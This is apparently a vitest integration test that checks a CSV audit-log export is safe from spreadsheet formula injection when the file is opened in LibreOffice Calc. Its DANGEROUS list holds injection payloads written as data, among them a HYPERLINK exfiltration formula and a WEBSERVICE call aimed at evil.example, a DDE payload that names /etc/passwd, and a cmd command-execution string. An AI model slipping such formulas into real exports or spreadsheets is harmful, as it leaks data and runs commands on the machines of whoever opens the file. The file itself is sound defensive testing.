import { afterAll, beforeAll, expect, test } from 'vitest';
import type { EventInput } from '../../core/event.ts';
import { CSV_COLUMNS } from '../../query/export/format.ts';
import {
  type ExportApi,
  type ExportProcess,
  type ExportWorld,
  ended,
  startExportApi,
  startExportProcess,
  startExportWorld,
} from '../support/exports.ts';
import { openInCalc } from '../support/libreoffice.ts';
import { describeNeeding, spreadsheet } from '../support/requirements.ts';
import { chainEvents, insertSeeded } from '../support/seed.ts';

const WORKSPACE = 'ws_00000000000000ca';

/** What a spreadsheet would run, or might after it dropped what stands before. */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1;1)',
  '=HYPERLINK("https://evil.example/?"&A1;"Sarah Chen")',
  '=DDE("soffice";"/etc/passwd";"A1")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("https://evil.example/")',
  '="a","=1+1"',
];
const HARMLESS = [
  'Sarah Chen',
  'a=1+1',
  '{=1+1}',
  '1-2',
  'Zoë',
  '李 小龙',
  'comma, and "quotes"',
  "O'Brien",
  'two\nlines',
];

const FREE_TEXTS = ['actor_id', 'actor_name', 'action', 'resource_name', 'user_agent', 'tenant_id'] as const;

function* events(): Generator<EventInput> {
  for (const text of [...DANGEROUS, ...HARMLESS]) {
    yield {
      actor_id: text,
      actor_name: text,
      action: text,
      resource_name: text,
      user_agent: text,
      tenant_id: text,
      metadata: { text },
      targets: [{ type: text, name: text }],
    };
  }
}

await describeNeeding(spreadsheet, 'an export opened in LibreOffice Calc', () => {
  let world: ExportWorld;
  let worker: ExportProcess;
  let api: ExportApi;

  beforeAll(async () => {
    world = await startExportWorld();
    await insertSeeded(world.writer, chainEvents(WORKSPACE, events()));
    worker = await startExportProcess(world);
    api = await startExportApi(worker.jobs, world.store);
  });

  afterAll(async () => {
    await api?.stop();
    await worker?.stop();
    await world?.stop();
  });

  async function exported(bom: boolean): Promise<Buffer> {
    const { json } = await api.as(WORKSPACE, 'POST', '/exports', { bom });
    const shown = await ended(api, WORKSPACE, json.data.id);
    expect(shown.status).toBe('completed');
    const { pathname, search } = new URL(shown.download_url);
    return (await api.call(null, 'GET', `${pathname.replace('/api/v1', '')}${search}`)).bytes;
  }

  test('shows that it would run a formula, were one there', async () => {
    const [[formula, text] = []] = await openInCalc(Buffer.from('"=1+1","\'=1+1"\r\n'));
    expect(formula).toEqual({ text: '2', formula: 'of:=1+1' });
    expect(text).toEqual({ text: "'=1+1" });
  });

  test.each([{ bom: true }, { bom: false }])(
    'runs no formula, and shows each text as it is documented: $bom',
    async ({ bom }) => {
      const [header, ...rows] = await openInCalc(await exported(bom));
      expect(header?.map(({ text }) => text)).toEqual([...CSV_COLUMNS]);
      expect(rows).toHaveLength(DANGEROUS.length + HARMLESS.length);
      expect([header, ...rows].flat().filter((cell) => cell?.formula !== undefined)).toEqual([]);
      for (const column of FREE_TEXTS) {
        const cells = rows.map((row) => row[CSV_COLUMNS.indexOf(column)]?.text);
        expect(cells, column).toEqual([...DANGEROUS.map((text) => asShown(`'${text}`)), ...HARMLESS]);
      }
    },
  );
});

/** A line end of any kind is one within a cell. */
function asShown(text: string): string {
  return text.replace(/\r\n?/g, '\n');
}
